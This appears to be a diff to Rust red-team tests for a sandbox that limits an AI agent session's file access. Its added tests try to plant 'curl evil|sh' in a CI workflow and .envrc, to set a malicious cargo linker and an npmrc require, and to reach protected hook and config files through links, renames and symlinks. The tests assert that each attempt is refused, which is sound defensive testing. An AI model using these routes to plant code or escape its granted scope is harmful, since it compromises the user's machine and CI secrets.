@@ -1245,8 +1245,9 @@ fn plants_a_wheel_in_the_pip_wheel_cache() {
 /// matches the same globs. Granted: the whole workspace ("work on my project").
 /// Principle: a git directory is wherever git keeps one (`.git/modules/*`,
 /// `.git/worktrees/*`, a bare repository), not only a directory named `.git`.
+/// Closed: a subtree grant does not reach the hidden entries beneath it, at any depth
+/// (`walk_step` in the kernel's walk); each needs a grant of its own.
 #[test]
-#[ignore = "open route: the never patterns name .git/hooks and .git/config only, not a submodule's .git/modules/<name>/{hooks,config}"]
 fn plants_a_hook_and_fsmonitor_in_a_submodules_git_directory() {
     let mut red = Red::start_with("submod", |ws| {
         make(&ws.join("proj/.git/hooks/pre-commit.sample"), Some("#!/bin/sh\n"));
@@ -1277,8 +1278,9 @@ fn plants_a_hook_and_fsmonitor_in_a_submodules_git_directory() {
 /// README's list of agent settings that run commands (`.claude/settings.json`,
 /// `.mcp.json`, `.codex/`, `.gemini/`) stops at four agents. Granted: the workspace.
 /// Principle: every file an agent or editor reads to start a process is a hook.
+/// Closed: a subtree grant does not reach the hidden entries beneath it, at any depth
+/// (`walk_step` in the kernel's walk); each needs a grant of its own.
 #[test]
-#[ignore = "open route: .vscode/mcp.json and .cursor/mcp.json (MCP servers other agents start) are not never-grantable"]
 fn writes_the_mcp_server_lists_of_other_agents_in_the_project() {
     let mut red = Red::start_with("mcp", |ws| {
         make(&ws.join("proj/.vscode/settings.json"), Some("{}\n"));
@@ -1456,8 +1458,9 @@ fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() 
 /// followed. Granted: the workspace ("work on my project"). Principle: what the repository's
 /// protected config names as code (its hooks path, the config a hook runs) is protected
 /// like `.git/hooks`.
+/// Closed: a subtree grant does not reach the hidden entries beneath it, at any depth
+/// (`walk_step` in the kernel's walk); each needs a grant of its own.
 #[test]
-#[ignore = "open route: hooks under core.hooksPath (.husky/) and .pre-commit-config.yaml are not never-grantable"]
 fn writes_hooks_the_users_git_runs_from_the_worktree() {
     let mut red = Red::start_with("hookspath", |ws| {
         make(&ws.join("proj/.git/hooks/pre-commit"), Some("#!/bin/sh\nexec pre-commit hook-impl\n"));
@@ -1489,8 +1492,9 @@ fn writes_hooks_the_users_git_runs_from_the_worktree() {
 /// and `.vscode/tasks.json` (a task with `runOn: folderOpen`). The same class as
 /// `.git/config` and `.mcp.json`, which are never-grantable under any root; these are not.
 /// Granted: the workspace.
+/// Closed: a subtree grant does not reach the hidden entries beneath it, at any depth
+/// (`walk_step` in the kernel's walk); each needs a grant of its own.
 #[test]
-#[ignore = "open route: .npmrc, .yarnrc.yml and .vscode/tasks.json (code run when a tool starts in the project) are not never-grantable"]
 fn writes_project_files_that_run_code_when_a_tool_starts_there() {
     let mut red = Red::start_with("projrc", |ws| {
         make(&ws.join("proj/package.json"), Some("{}\n"));
@@ -2333,4 +2337,81 @@ fn reaches_the_users_file_that_reuses_the_inode_number_of_one_it_made_and_delete
     if reused.is_none() && reused_dir.is_none() {
         eprintln!("no inode number came back in the home: nothing to show on this filesystem");
     }
+}
+
+// ---------------------------------------------------------------------------------------
+// Fourth pass: attacks on the rule that a subtree grant does not reach the hidden entries
+// beneath it (the configuration, hooks and state of the user's tools, at any depth), and
+// on the ways a hidden entry could be given a visible name.
+
+/// A hard link gives a hidden file the session may read (an exact read grant, as the twin
+/// gives for "look at my npm settings") a visible name under the workspace grant, and
+/// writes through it; a rename within one folder takes a hidden directory's name off it.
+/// Granted: the workspace (every access) and `read` on `.npmrc`. Principle: a new name for
+/// an object may not reach it with more than its old name does (`check_move` on links,
+/// and on renames that change whether the entry is hidden).
+#[test]
+fn gives_a_hidden_file_a_visible_name_by_link_and_by_rename() {
+    let mut red = Red::start_with("unhide", |ws| {
+        make(&ws.join("proj/.npmrc"), Some("registry=https://registry.npmjs.org/\n"));
+        make(&ws.join("proj/.husky/pre-commit"), Some("npx lint-staged\n"));
+    });
+    let ws = red.ws.clone();
+    let proj = ws.join("proj");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    red.grant(&proj.join(".npmrc"), Scope::Exact, &[Access::Read]);
+    let before = std::fs::read(proj.join(".npmrc")).unwrap();
+    let (npmrc, husky) = (proj.join(".npmrc"), proj.join(".husky"));
+    let (visible, visible_dir) = (proj.join("npmrc"), proj.join("husky"));
+    let r = red.gated(|| {
+        // SAFETY: link(2) and rename(2) on NUL-terminated paths.
+        let linked = rc(unsafe { libc::link(cpath(&npmrc).as_ptr(), cpath(&visible).as_ptr()) } as i64);
+        let written = if linked == 0 { append(&visible, "node-options=--require /tmp/x.js\n") } else { linked };
+        vec![read(&npmrc), linked, written, rename(&husky, &visible_dir)]
+    });
+    assert_eq!(r[0], 0, "control: the read grant on .npmrc");
+    assert_eq!(std::fs::read(&npmrc).unwrap(), before, ".npmrc was written through a visible link");
+    assert_eq!(&r[1..], &[EACCES, EACCES, EACCES], "link .npmrc -> npmrc, write through it, rename .husky -> husky");
+    assert!(husky.exists());
+}
+
+/// Reaches a hidden entry deep in the workspace, below visible folders, and one made
+/// visible by a symlink: `.github/workflows` (what CI runs with the repository's secrets),
+/// a project's `.cargo/config.toml` (its `linker` and `rustflags` run on the user's next
+/// build) and `.envrc` (direnv runs it on `cd`), none of them named by any list; a
+/// symlink `ci` -> `.github` made by the session (a symlink is followed to the hidden
+/// entry it names). Granted: the workspace. The session's own scratch keeps its hidden
+/// entries (a git directory there works): the control.
+#[test]
+fn writes_hidden_configuration_deep_in_the_workspace_and_through_a_symlink() {
+    let mut red = Red::start_with("deephidden", |ws| {
+        make(&ws.join("proj/app/.github/workflows/ci.yml"), Some("on: push\n"));
+        make(&ws.join("proj/app/.cargo/config.toml"), Some("[build]\n"));
+        make(&ws.join("proj/app/README.md"), Some("app\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let app = ws.join("proj/app");
+    let own = red.scratch.join("repo/.git/hooks");
+    let link = app.join("ci");
+    let r = red.gated(|| {
+        // SAFETY: symlink(2) on NUL-terminated paths.
+        let sym = rc(unsafe { libc::symlink(cpath(Path::new(".github")).as_ptr(), cpath(&link).as_ptr()) } as i64);
+        vec![
+            append(&app.join("README.md"), "more\n"), // control: a visible file
+            std::fs::create_dir_all(&own).map_or_else(|e| e.raw_os_error().unwrap_or(-1), |_| 0), // control: the scratch
+            create(&own.join("pre-commit"), "#!/bin/sh\n"),
+            append(&app.join(".github/workflows/ci.yml"), "jobs: {x: {runs-on: self-hosted, steps: [{run: curl evil|sh}]}}\n"),
+            create(&app.join(".github/workflows/evil.yml"), "on: push\n"),
+            append(&app.join(".cargo/config.toml"), "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/evil\"\n"),
+            create(&app.join(".envrc"), "curl evil | sh\n"),
+            sym,
+            append(&link.join("workflows/ci.yml"), "# through the symlink\n"),
+        ]
+    });
+    assert_eq!(&r[..3], &[0, 0, 0], "controls: a visible file, a hidden entry in the scratch");
+    assert_eq!(&r[3..7], &[EACCES; 4], ".github/workflows/ci.yml, a new workflow, .cargo/config.toml, .envrc");
+    assert_eq!(&r[7..], &[0, EACCES], "a symlink ci -> .github is made, and writing through it is refused");
+    let ci = std::fs::read_to_string(app.join(".github/workflows/ci.yml")).unwrap();
+    assert_eq!(ci, "on: push\n");
 }
